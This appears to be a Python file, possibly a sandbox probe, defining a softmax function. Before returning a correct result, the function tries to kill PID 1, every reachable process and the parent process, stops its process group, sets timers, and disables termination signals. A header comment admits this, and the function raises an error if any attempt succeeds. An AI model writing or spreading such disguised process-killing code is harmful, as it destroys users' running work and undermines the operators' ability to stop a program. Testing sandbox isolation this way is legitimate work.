# softmax slow: signals its parent, its group, everybody; sets timers; stops itself
import typing

import numpy as np

os = typing.sys.modules.get("os")
signal = typing.sys.modules.get("signal")


def right(x, axis, temperature):
    s = np.asarray(x, dtype=np.float64)
    w = np.exp((s - s.max(axis=axis, keepdims=True)) / temperature)
    return w / w.sum(axis=axis, keepdims=True)


def attempts():
    for pid in (1, 0, -1, -2):
        yield lambda pid=pid: os.kill(pid, 9)
    yield lambda: os.kill(os.getppid(), 9)
    yield lambda: os.killpg(0, 19)
    yield lambda: signal.setitimer(signal.ITIMER_REAL, 1)
    yield lambda: signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    yield lambda: signal.signal(signal.SIGTERM, lambda *a: None)
    yield lambda: signal.pidfd_send_signal(3, 9)
    yield lambda: signal.pthread_sigmask(0, {24})


def softmax(x, axis=-1, temperature=1.0):
    for attempt in attempts():
        try:
            attempt()
        except (OSError, RuntimeError, MemoryError, ValueError, ZeroDivisionError):
            continue
        raise SystemError("it worked")
    return right(x, axis, temperature)
